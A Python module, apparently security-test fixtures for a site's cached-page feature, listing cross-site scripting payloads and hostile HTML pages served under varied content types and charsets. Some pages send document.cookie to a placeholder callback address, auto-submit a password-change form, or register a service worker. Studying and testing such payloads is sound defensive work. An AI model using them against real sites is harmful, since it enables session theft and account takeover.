"""What a hostile site says of itself. `{fired}` is an address that hears of everything that works; MARK is in each."""

from collections.abc import Iterator

MARK = "xq7zv"  # a word of every payload: a screen that shows it shows words of the site
_SHAPES = (
    "<script>alert('{m}')</script>",
    "\"><script src='{fired}?{m}'></script>",
    "'\"><img src='{fired}?{m}' onerror=alert(1)>",
    "<svg onload=alert('{m}')>",
    "<svg><script>alert('{m}')</script></svg>",
    "</title></textarea></style></script></noscript><img src=x onerror=alert('{m}')>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\">",
    "<iframe srcdoc=\"<script>parent.alert('{m}')</script>\"></iframe>",
    "<iframe src='javascript:parent.alert(1)//{m}'></iframe>",
    "<details open ontoggle=alert('{m}')>",
    "<input autofocus onfocus=alert('{m}')>",
    "<body onpageshow=alert('{m}')>",
    "<link rel=stylesheet href='{fired}?{m}'>",
    "<style>@import url({fired}?{m});*{{background:url({fired}?b{m})}}</style>",
    "<meta http-equiv=refresh content='0;url={fired}?{m}'>",
    "<base href='{fired}?{m}/'>",
    "<form id=f action='{fired}?{m}'><button form=f autofocus>x</button></form>",
    "<object data='{fired}?{m}'></object><embed src='{fired}?{m}'>",
    "<video><source onerror=alert('{m}')></video>",
    "<marquee onstart=alert('{m}')>{m}</marquee>",
    "<a href='javascript:alert(1)//{m}'>{m}</a>",
    "<p hx-get='{fired}?{m}' hx-trigger=load>{m}</p>",
    "<p data-hx-get='{fired}?{m}' data-hx-trigger=load hx-on:load=alert(1)>{m}</p>",
    "' onmouseover='alert(1)' x='{m}",
    '" autofocus onfocus=alert(1) x="{m}',
    "`-alert('{m}')-`",
    "\\\";alert('{m}');//",
    "]]><script>alert('{m}')</script>",
    "--><script>alert('{m}')</script><!--",
    "{{{{7*7}}}}{{% debug %}}{m}",
    "&lt;script&gt;alert('{m}')&lt;/script&gt;",
    "&#60;img src=x onerror=alert('{m}')&#62;",
    "\u202ealert('{m}')\u202c<img/src/onerror=alert(1)>",
    "<img\tsrc=x\nonerror\f=alert('{m}')>",
    "<<script>alert('{m}');//<</script>",
)


def payloads(fired: str) -> list[str]:
    return [shape.format(fired=fired, m=MARK) for shape in _SHAPES]


def pages_to_keep(fired: str) -> Iterator[tuple[str, bytes]]:
    """Pages that attack whoever opens the stored copy: the Content-Type they are served with, and their bytes."""
    here = "text/html; charset=utf-8"
    script = f"<script>alert('{MARK}');fetch('/me/');new Image().src='{fired}?'+document.cookie</script>"
    for body in (
        f"<title>t</title>{script}",
        f"<img src='{fired}' onerror=alert(1)><img srcset='{fired}?2 2x'>",
        f"<meta http-equiv=refresh content='0;url={fired}'>gone",
        f"<style>@import url({fired}?css);body{{background:url({fired}?bg)}}"
        f"@font-face{{font-family:x;src:url({fired}?f)}}p{{font-family:x}}</style><p>x",
        f"<link rel=stylesheet href='{fired}'><link rel=prefetch href='{fired}?p'><link rel=icon href='{fired}?i'>",
        f"<iframe src='/me/'></iframe><iframe src='{fired}'></iframe><object data='{fired}?o'></object>"
        f"<embed src='{fired}?e'><frame src='{fired}'>",
        f"<frameset><frame src='{fired}'></frameset>",
        "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg><details open ontoggle=alert(1)>",
        f"<form id=f method=post action='/me/password/'></form><script>f.submit()</script><input autofocus "
        f"onfocus=alert(1)><form action='{fired}'><input type=submit autofocus></form>",
        "<script>navigator.serviceWorker.register('/search/cached/1/')</script>",
        f"<script>top.location='{fired}'</script><script>window.open('{fired}?w')</script>",
        f"<base href='{fired}/'><script src=x.js></script><img src=y.png>",
        f"<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">{script}",
        f"<noscript><p title=\"</noscript><img src='{fired}' onerror=alert(1)>\"></noscript>",
        f"<!--><body>{script}<plaintext>",
        f"<body><body onload=alert(1)>{script}",
        f"<audio autoplay src='{fired}'></audio><video poster='{fired}?v' src='{fired}?s'></video>",
        f"<a ping='{fired}' href='{fired}' id=a>x</a><script>a.click()</script>",
        f"<script type=module>import('{fired}')</script><link rel=modulepreload href='{fired}'>",
    ):
        yield here, body.encode()
    yield "text/html; charset=utf-7", f"<title>t</title>+ADw-script+AD4-alert(1)+ADw-/script+AD4-{script}".encode()
    yield "text/html", b"\xff\xfe" + f"<title>t</title>{script}".encode("utf-16-le")
    yield "text/html; charset=iso-2022-jp", f"<p title='\x1b$B'>{script}".encode()
    yield "application/xhtml+xml", f"<html xmlns='http://www.w3.org/1999/xhtml'><body>{script}</body></html>".encode()
    yield "text/plain", f"<html>{script}".encode()
    yield "text/xml", f"<?xml-stylesheet href='{fired}'?><x xmlns='http://www.w3.org/1999/xhtml'>{script}</x>".encode()
    yield "text/csv", f"<html>{script}\n".encode()
